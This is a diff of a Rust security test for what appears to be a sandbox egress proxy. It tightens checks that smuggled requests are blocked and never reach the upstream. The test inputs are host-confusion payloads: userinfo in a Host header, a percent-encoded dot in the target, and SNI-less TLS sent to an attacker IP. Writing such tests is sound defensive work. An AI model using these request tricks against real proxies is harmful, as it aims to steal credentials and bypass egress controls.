@@ -690,9 +690,10 @@ fn a_hostile_guest_cannot_steal_the_key_or_choose_where_bytes_go() {
         red,
         &["--cacert", ca, "--resolve", &anth, "-H", "Host: attacker.test@api.anthropic.com", "https://api.anthropic.com/ui"],
     );
-    f.check(code == "403", "14 userinfo in Host", &body);
+    f.check(code != "200" && last("/ui").is_none(), "14 userinfo in Host", format!("{code} {body}"));
     let (body, code) = tls_echo("--http1.1", "https://echo%2etest/pct");
-    f.check(code == "403", "14 a percent-encoded dot in the target", &body);
+    let pct = rig.upstream.requests().into_iter().any(|r| r["path"].as_str().unwrap_or("").contains("pct"));
+    f.check(code != "200" && !pct, "14 a percent-encoded dot in the target", format!("{code} {body}"));
     let (body, code) =
         curl(red, &["-k", "-H", "Host: api.anthropic.com", &format!("https://{}/no-sni", netns::ATTACKER_IP)]);
     f.check(code == "403", "14 TLS without SNI carrying the service's Host", &body);
